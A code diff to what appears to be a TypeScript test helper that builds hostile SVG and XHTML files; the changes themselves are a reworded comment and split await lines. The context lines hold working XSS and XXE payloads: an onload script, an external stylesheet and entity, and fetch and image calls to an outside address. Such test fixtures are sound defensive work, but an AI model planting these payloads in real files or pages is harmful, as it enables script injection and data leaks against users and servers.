@@ -8,7 +8,7 @@ export interface HostileFile {
   bytes: Buffer;
 }
 
-/** Says that it ran to whoever listens in the page, and calls an address elsewhere. */
+/** Says that it ran to anyone who listens in the page, and calls an address elsewhere. */
 export const script = (by: string, elsewhere: string): string =>
   `window.hostile?.('${by}');fetch('${elsewhere}/fetch/${by}').catch(()=>{});new Image().src='${elsewhere}/image/${by}'`;
 
@@ -20,7 +20,8 @@ export async function hostileFiles(elsewhere: string): Promise<HostileFile[]> {
     `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60" onload="${script(by, elsewhere)}"><style>@import url(${elsewhere}/import/${by});</style><script>${script(by, elsewhere)}</script><rect width="90" height="60" fill="teal"/><image href="${elsewhere}/href/${by}" xlink:href="${elsewhere}/xlink/${by}" width="9" height="9"/><foreignObject width="90" height="60"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${elsewhere}/foreign/${by}"/></body></foreignObject></svg>`;
   const xhtml = (by: string): string =>
     `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${elsewhere}/sheet/${by}"?><!DOCTYPE html [<!ENTITY x SYSTEM "${elsewhere}/entity/${by}">]><html xmlns="http://www.w3.org/1999/xhtml"><body><script>${script(by, elsewhere)}</script>&x;</body></html>`;
-  const [png, jpeg] = [await sampleImage(90, 60), await sampleImage(90, 60, 'jpeg')];
+  const png = await sampleImage(90, 60);
+  const jpeg = await sampleImage(90, 60, 'jpeg');
   const text = (name: string, type: string, content: string): HostileFile => ({
     name,
     type,
